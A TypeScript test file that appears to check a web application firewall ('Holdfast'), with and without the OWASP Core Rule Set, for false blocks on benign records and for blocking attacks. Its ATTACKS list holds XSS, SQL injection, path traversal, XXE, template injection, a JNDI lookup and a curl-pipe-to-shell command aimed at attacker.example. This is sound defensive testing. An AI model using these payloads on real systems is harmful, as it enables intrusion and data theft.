import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { describe, type TestContext, test } from "node:test";
import { fileURLToPath } from "node:url";
import { Agent, fetch } from "undici";
import { type Benign, benignRecords } from "../../../waf/test/benign/corpus.ts";
import { openHouse, type TestHouse } from "../audit/house.ts";

const RECORDS = 20_000;
/** Where rules of others are tried besides, which see no more of these requests. */
const RECORDS_BESIDES = 4_000;
const PER_INSERT = 500;
const SEED = 20_261_121;
/** What attackers send is data too, where it is written into a text: a course on security keeps it. */
const ATTACKS = [
  "<script>alert(document.cookie)</script>",
  "' OR 1=1; DROP TABLE patients; --",
  "../../../../etc/passwd\u0000.png".replace("\u0000", ""),
  `\${jndi:ldap://attacker.example/x}`,
  "$(curl http://attacker.example | sh)",
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  "{{constructor.constructor('return process')()}}",
];
const BROWSERS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Safari/605.1.15",
  "Mozilla/5.0 (Linux; Android 16; SM-S938N) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Mobile Safari/537.36",
  "Dart/3.9 (dart:io)",
  "supabase-kt/3.2.4 ktor-client",
  "python-httpx/0.28.1",
];

interface Asked {
  readonly status: number;
  readonly headers: Headers;
  readonly body: unknown;
}
type Ask = (
  path: string,
  init?: { readonly method?: string; readonly headers?: Record<string, string>; readonly json?: unknown },
) => Promise<Asked>;

function agentOf(t: TestContext, { app }: TestHouse): Agent {
  const agent = new Agent({ connect: { ca: readFileSync(app.folder.paths.authority, "utf8") } });
  t.after(() => agent.close());
  return agent;
}

function asker(house: TestHouse, agent: Agent, base: Readonly<Record<string, string>> = {}): Ask {
  return async (path, { method = "GET", headers = {}, json } = {}) => {
    const body = json === undefined ? {} : { body: JSON.stringify(json) };
    const sent = { ...base, ...headers, ...(json === undefined ? {} : { "content-type": "application/json" }) };
    const answer = await fetch(`${house.serving.edge.url}${path}`, { method, headers: sent, dispatcher: agent, ...body });
    const text = await answer.text();
    const isJson = answer.headers.get("content-type")?.startsWith("application/json") === true && text !== "";
    return { status: answer.status, headers: new Headers([...answer.headers]), body: isJson ? JSON.parse(text) : text };
  };
}

async function signedUp(house: TestHouse, agent: Agent): Promise<{ readonly ask: Ask; readonly owner: string }> {
  const apikey = house.app.identity.publishableKey;
  const { body } = await asker(house, agent, { apikey })("/auth/v1/signup", {
    method: "POST",
    json: { email: "writer@notes.example", password: "nine lighthouses hum quietly" },
  });
  const { access_token, user } = body as { access_token: string; user: { id: string } };
  return { ask: asker(house, agent, { apikey, authorization: `Bearer ${access_token}` }), owner: user.id };
}

async function writeAll(ask: Ask, owner: string, texts: readonly string[]): Promise<void> {
  for (let at = 0; at < texts.length; at += PER_INSERT) {
    const rows = texts.slice(at, at + PER_INSERT).map((body, index) => ({ number: String(at + index), body, owner }));
    const { status, body } = await ask("/rest/v1/notes", { method: "POST", json: rows, headers: { prefer: "return=minimal" } });
    assert.equal(status, 201, JSON.stringify(body));
  }
}

const sampled = (records: readonly Benign[], count: number): readonly Benign[] =>
  records.filter((_, index) => index % Math.floor(records.length / count) === 0);

async function blocked(
  ask: Ask,
  asked: readonly (readonly [what: string, path: string, headers?: Record<string, string>])[],
): Promise<string[]> {
  const refused: string[] = [];
  for (const [what, path, headers = {}] of asked) if ((await ask(path, { headers })).status === 403) refused.push(what);
  return refused;
}

/** Where Debian's package lies; elsewhere only the built-in rules are tried. */
const hasCoreRuleSet = existsSync("/usr/share/modsecurity-crs/rules");

for (const rules of ["its own rules", "the OWASP Core Rule Set besides"] as const) {
  const isCore = rules !== "its own rules";
  const config = fileURLToPath(new URL(isCore ? "./ordinary-crs/holdfast.config.ts" : "./ordinary/holdfast.config.ts", import.meta.url));
  const skip = isCore && !hasCoreRuleSet ? "not run: modsecurity-crs is not installed" : false;
  describe(`Holdfast, with ${rules},`, { skip }, () => {
    const count = isCore ? RECORDS_BESIDES : RECORDS;
    test(`takes ${count} ordinary records, program text and even attacks as the data they are`, async (t) => {
      await using house = await openHouse({ config });
      const agent = agentOf(t, house);
      const { ask, owner } = await signedUp(house, agent);
      const records = benignRecords(count, SEED);
      assert.ok(records.some(({ text }) => /[가-힣]/.test(text)) && records.some(({ group }) => group === "technical"));
      const texts = [...records.map(({ text }) => text.replaceAll("\u0000", "")), ...ATTACKS];
      await writeAll(ask, owner, texts);
      const counted = await ask("/rest/v1/notes?select=id&limit=1", { headers: { prefer: "count=exact" } });
      assert.equal(counted.headers.get("content-range"), `0-0/${texts.length}`);
      // As they were written, and found by what they say.
      for (const at of [0, 777, count - 1, ...ATTACKS.map((_, index) => count + index)]) {
        const query = `/rest/v1/notes?select=number&number=eq.${at}&body=eq.${encodeURIComponent(texts[at] ?? "")}`;
        const { status, body } = await ask(query);
        assert.deepEqual([status, body], [200, [{ number: String(at) }]], texts[at] ?? "");
      }
      const filters = sampled(records, 500).filter(({ text }) => text.length < 1_000);
      const asked = filters.map(({ text }) => [text, `/rest/v1/notes?number=eq.0&body=eq.${encodeURIComponent(text)}`] as const);
      assert.deepEqual(await blocked(ask, asked), []);
    });

    test("lets ordinary questions, browsers and apps through to a page, and stops attacks on it", async (t) => {
      await using house = await openHouse({ config });
      const agent = agentOf(t, house);
      const ask = asker(house, agent, {
        accept: "text/html,application/xhtml+xml,*/*;q=0.8",
        "accept-language": "ko-KR,ko;q=0.9,en;q=0.8",
      });
      const apps = BROWSERS.map(
        (name) => [name, "/", { "user-agent": name, referer: `${house.serving.edge.url}/?from=mail&id=12` }] as const,
      );
      assert.deepEqual(await blocked(ask, apps), []);
      const attacks = ATTACKS.map((text) => [text, `/?q=${encodeURIComponent(text)}`, { "user-agent": BROWSERS[0] ?? "" }] as const);
      assert.deepEqual((await blocked(ask, attacks)).length, ATTACKS.length);
      // A rule that only the Core Rule Set has: files of this kind are not to be asked for.
      assert.equal((await ask("/notes.mdb")).status, isCore ? 403 : 404);
      if (isCore) return;
      const questions = sampled(benignRecords(2_000, SEED + 1), 1_000).filter(
        ({ group, text }) => group === "ordinary" && text.length < 500,
      );
      assert.ok(questions.length > 500);
      assert.deepEqual(
        await blocked(
          ask,
          questions.map(({ text }) => [text, `/?q=${encodeURIComponent(text)}`]),
        ),
        [],
      );
    });
  });
}
